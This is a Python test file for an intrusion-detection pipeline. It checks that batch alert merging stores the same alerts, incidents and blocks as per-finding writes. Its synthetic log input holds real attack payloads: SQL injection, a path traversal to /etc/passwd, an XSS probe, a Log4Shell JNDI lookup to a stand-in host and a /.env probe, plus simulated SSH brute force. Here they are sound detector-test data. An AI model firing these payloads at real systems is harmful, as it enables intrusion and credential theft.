"""Alerts are merged per batch and written once per batch: the stored alerts, incidents and blocks are exactly
those of writing after every finding (the engine before the change, kept here as the reference)."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from sqlalchemy import MetaData, select

from netwarden.config import load_settings
from netwarden.pipeline import Pipeline
from netwarden.store.database import Database
from netwarden.store.schema import alerts, incidents
from netwarden.store.schema_respond import blocks

# recent enough that the alerts are not history (history never blocks), and the blocks must be exercised
T0 = datetime.now(timezone.utc).replace(minute=0, second=0, microsecond=0) - timedelta(hours=4)
PAYLOADS = ["/item.php?id=1%27%20OR%20%271%27%3D%271", "/index.php?page=../../../../etc/passwd",
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?x=${jndi:ldap://198.51.100.7:1389/a}",
            "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL--+-", "/.env"]
USERS = ("root", "admin", "oracle", "test")


def attack_rounds() -> list[tuple[str, list[str]]]:
    """(format, lines) in time order: 30 sources send web attacks and guess SSH passwords, in hourly rounds
    with a pause longer than the merge window, some of them finally logging in (an incident escalates)."""
    rounds: list[tuple[str, list[str]]] = []
    for hour in (0, 1, 3):  # the gap between 1 and 3 opens new alerts for the same sources
        web, ssh = [], []
        for i in range(120):
            src = f"203.0.113.{i % 30 + 1}"
            when = T0 + timedelta(hours=hour, seconds=i * 7)
            web.append(f'{src} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {PAYLOADS[i // 30 % len(PAYLOADS)]} '
                       f'HTTP/1.1" {200 if i % 3 else 404} 512 "-" "Mozilla/5.0"')
        for i in range(480):  # 16 guesses from each source within four minutes
            src = f"203.0.113.{i % 30 + 1}"
            when = T0 + timedelta(hours=hour, seconds=i // 2)
            message = (f"Accepted password for admin from {src} port {40000 + i} ssh2" if hour == 3 and i >= 450
                       else f"Failed password for {USERS[i % 4]} from {src} port {40000 + i} ssh2")
            ssh.append(f"<38>{when.isoformat()} gw sshd[{4000 + i}]: {message}")
        rounds += [("access_log", web), ("syslog", ssh)]
    return rounds


def written_per_finding(engine):  # type: ignore[no-untyped-def]
    """The engine's handle() as it was: each finding merged, linked and written on its own; listeners told
    once per batch about each alert it changed."""
    handle_batch = engine.handle

    def handle(findings):  # type: ignore[no-untyped-def]
        listeners, engine.listeners = engine.listeners, []
        changed: dict[int, list] = {}
        try:
            for finding in findings:
                new_before = engine.stats.alerts_new
                for alert in handle_batch([finding]):
                    entry = changed.setdefault(id(alert), [alert, False])
                    entry[1] = entry[1] or engine.stats.alerts_new > new_before
        finally:
            engine.listeners = listeners
        for alert, is_new in changed.values():
            for listener in listeners:
                listener(alert, is_new)
        return [alert for alert, _ in changed.values()]

    return handle


def run(db, *, reference: bool) -> dict[str, list]:  # type: ignore[no-untyped-def]
    settings = load_settings(environ={"NETWARDEN_INGEST_BATCH_SIZE": "50", "NETWARDEN_RESPOND_HISTORY_AFTER": "1d"})
    pipeline = Pipeline.from_settings(db, settings)
    if reference:
        pipeline.engine.handle = written_per_finding(pipeline.engine)
    try:
        for fmt, lines in attack_rounds():
            pipeline.ingest_lines(lines, fmt, source="test")
        pipeline.response.responder.flush(10)
    finally:
        pipeline.close()
    with db.engine.connect() as conn:
        return {
            "alerts": [tuple(r) for r in conn.execute(select(alerts).order_by(alerts.c.id))],
            "incidents": [tuple(r) for r in conn.execute(select(incidents).order_by(incidents.c.id))],
            "blocks": [tuple(r) for r in conn.execute(select(
                blocks.c.id, blocks.c.network, blocks.c.reason, blocks.c.alert_id, blocks.c.state,
                blocks.c.created_by).order_by(blocks.c.id))],
        }


def comparable(results: dict[str, list]) -> dict[str, list]:
    """Everything but the wall-clock times of writing (``created``/``updated``)."""
    columns = [c.name for c in alerts.columns]
    drop = {columns.index("created"), columns.index("updated")}
    return {**results, "alerts": [tuple(v for i, v in enumerate(row) if i not in drop) for row in results["alerts"]]}


def test_batch_merging_stores_exactly_what_writing_every_finding_stored(db, db_url) -> None:  # type: ignore[no-untyped-def]
    before = comparable(run(db, reference=True))
    meta = MetaData()  # an empty database again, for the second run
    meta.reflect(db.engine)
    meta.drop_all(db.engine)
    with db.engine.begin() as conn:
        conn.exec_driver_sql("DROP TABLE IF EXISTS alembic_version")
    db.close()
    again = Database.open(db_url)
    try:
        after = comparable(run(again, reference=False))
    finally:
        again.close()
    assert len(before["alerts"]) >= 60, "the input must raise many alerts"
    kinds = {row[1] for row in before["alerts"]}
    assert {"web_attack", "brute_force"} <= kinds, kinds
    assert len(before["incidents"]) >= 30 and before["blocks"], "incidents and blocks must be exercised"
    assert any("repeat_offender" in str(row) for row in before["alerts"]), "repeat offenders must be exercised"
    assert after == before
